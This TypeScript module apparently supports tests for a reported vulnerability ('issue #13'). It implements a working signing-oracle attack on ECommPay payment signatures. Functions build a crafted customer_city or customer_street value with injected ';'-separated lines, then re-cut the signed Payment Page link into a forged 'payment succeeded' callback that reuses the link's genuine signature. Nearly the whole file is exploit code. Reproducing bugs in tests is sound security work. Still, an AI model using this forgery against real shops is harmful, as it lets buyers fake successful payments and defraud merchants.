/**
 * The signing-oracle attack of issue #13, as a shopper would mount it (no key, no Node, no
 * DOM: the Node and the Chromium tests share it). ECommPay's signed string joins `path:value`
 * lines with `;` and escapes nothing, so a Payment Page link whose `customer_city` (or
 * `customer_street`) holds `北京;payment:id:T;payment:status:success;…;zzz:` signs the same
 * bytes as a callback "payment T: success": {@link forgeCallback} re-cuts the link into that
 * callback, carrying the link's own signature.
 */

/** One leaf the forged callback is to carry: its path and its value. */
export type ForgedLeaf = [path: string[], value: string | number];

/** Swallows the rest of the link's signed string; sorts after every line a callback needs. */
const TAIL_KEY = 'zzz';

const lineOf = ([path, value]: ForgedLeaf): string => `${path.join(':')}:${value}`;

/** The leaves in the order the signed string sorts them (plain keys: code unit order). */
function sorted(leaves: readonly ForgedLeaf[]): ForgedLeaf[] {
  return [...leaves].sort((a, b) => {
    const x = lineOf(a);
    const y = lineOf(b);
    return x < y ? -1 : x > y ? 1 : 0;
  });
}

/** `target` with `leaves` set in it, as nested JSON (a digit key makes an array). */
export function withLeaves(
  target: Record<string, unknown>,
  leaves: readonly ForgedLeaf[],
): Record<string, unknown> {
  for (const [path, value] of leaves) {
    let node = target;
    for (let i = 0; i < path.length - 1; i++) {
      node[path[i]] ??= /^\d+$/.test(path[i + 1]) ? [] : {};
      node = node[path[i]] as Record<string, unknown>;
    }
    node[path[path.length - 1]] = value;
  }
  return target;
}

/**
 * What the shopper types into the field (city or street): its honest start (`北京`), then the
 * forged callback's lines, then the tail key that takes in the rest of the link.
 */
export function oracleText(start: string, leaves: readonly ForgedLeaf[]): string {
  return [start, ...sorted(leaves).map(lineOf), `${TAIL_KEY}:`].join(';');
}

/**
 * The callback whose signed string is byte-identical to that of the link `url`, with the
 * link's signature: the link's own parameters before `field` as they are, `field` cut back to
 * its honest start, the forged leaves, and the tail key holding the rest of the link's lines.
 */
export function forgeCallback(
  url: string,
  field: string,
  leaves: readonly ForgedLeaf[],
): Record<string, unknown> {
  const params = Object.fromEntries(new URL(url).searchParams);
  const { signature, ...signed } = params;
  const names = Object.keys(signed).sort();
  const at = names.indexOf(field);
  if (at < 0) throw new Error(`the link has no ${field}`);
  const callback: Record<string, unknown> = {};
  for (const name of names.slice(0, at)) callback[name] = signed[name];
  callback[field] = signed[field].split(';')[0];
  withLeaves(callback, leaves);
  const rest = names.slice(at + 1).map((name) => `${name}:${signed[name]}`);
  callback[TAIL_KEY] = rest.length > 0 ? `;${rest.join(';')}` : '';
  return { ...callback, signature };
}

/** The leaves of a callback "payment `paymentId` of project `projectId` is now `status`". */
export function paymentLeaves(
  projectId: number,
  paymentId: string,
  status: string,
  extra: readonly ForgedLeaf[] = [],
): ForgedLeaf[] {
  return [
    [['payment', 'id'], paymentId],
    [['payment', 'status'], status],
    [['project_id'], projectId],
    ...extra,
  ];
}
